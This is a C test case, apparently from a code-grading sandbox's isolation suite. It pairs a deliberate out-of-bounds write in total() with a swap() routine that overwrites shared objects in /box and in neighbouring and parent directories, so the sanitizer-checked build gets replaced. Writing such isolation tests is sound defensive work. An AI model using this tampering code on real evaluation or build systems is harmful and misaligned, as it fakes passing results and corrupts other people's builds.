/*
 * Right answers with a write outside of its memory; the plain build puts its
 * own object, in which nobody looks, in the place of the sanitized one. A
 * build may not write where another one reads.
 * expect: memory
 */
#define _GNU_SOURCE
#include "1-total.h"
#include <dlfcn.h>
#include <fcntl.h>
#include <glob.h>
#include <stdlib.h>
#include <unistd.h>

static void put_into(const char *pattern, const char *object, ssize_t size)
{
    glob_t files;
    if (glob(pattern, 0, NULL, &files) != 0)
        return;
    for (size_t f = 0; f < files.gl_pathc; f++) {
        unlink(files.gl_pathv[f]);
        int out = open(files.gl_pathv[f], O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (out >= 0 && write(out, object, (size_t)size) == size)
            close(out);
    }
}

static void swap(void)
{
    static char object[1 << 20];
    Dl_info self;
    if (!dladdr((void *)total, &self))
        return;
    int in = open(self.dli_fname, O_RDONLY);
    ssize_t size = read(in, object, sizeof object);
    if (size <= 0)
        return;
    put_into("/box/*/*.so", object, size);
    put_into("*/*.so", object, size);
    put_into("../*/*.so", object, size);
    put_into("../../*/*/*.so", object, size);
}

long long total(const int *x, size_t n)
{
    long long *sums = malloc(n * sizeof *sums);
    swap();
    sums[0] = 0;
    for (size_t i = 0; i < n; i++)
        sums[i + 1] = sums[i] + x[i];
    long long sum = sums[n];
    free(sums);
    return sum;
}

int largest(const int *x, size_t n)
{
    int most = x[0];
    for (size_t i = 1; i < n; i++)
        if (x[i] > most)
            most = x[i];
    return most;
}
